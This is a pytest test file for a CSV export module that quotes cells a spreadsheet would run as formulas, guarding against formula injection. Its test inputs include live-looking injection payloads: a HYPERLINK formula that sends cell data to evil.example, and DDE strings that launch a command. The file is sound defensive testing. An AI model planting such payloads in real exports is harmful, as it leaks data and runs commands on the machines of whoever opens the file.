"""CSV exports and formula injection: text a spreadsheet would run as a formula gets a quote in front; numbers,
plain-number text and every other value are written as they are."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from carml.csv_export import csv_cell, formula_safe, to_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
    ],
)
def test_text_starting_like_a_formula_is_quoted(text: str) -> None:
    assert formula_safe(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-1, -0.5, 3, 1e-9, "-1", "+2", "-0.25", "-1e5", ".5", "digits-cnn", "a=b", "", " =x"],
)
def test_numbers_and_other_text_are_left_alone(value: object) -> None:
    # A spreadsheet reads text that is a plain number as that number: it cannot run anything.
    assert formula_safe(value) == value


def test_to_csv_writes_neutralised_text_and_typed_cells() -> None:
    when = datetime(2026, 11, 27, 18, 30, tzinfo=UTC)
    rows = [
        {"name": "=1+2", "top1": -0.5, "valid": True, "at": when, "note": None},
        {"name": "-1", "top1": 0.98, "valid": False, "at": when, "note": "@here"},
    ]
    text = to_csv(("name", "top1", "valid", "at", "note"), rows)
    assert text.splitlines() == [
        "name,top1,valid,at,note",
        "'=1+2,-0.5,true,2026-11-27T18:30:00+00:00,",
        "-1,0.98,false,2026-11-27T18:30:00+00:00,'@here",
    ]
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert parsed[0]["name"] == "'=1+2" and float(parsed[0]["top1"]) == -0.5
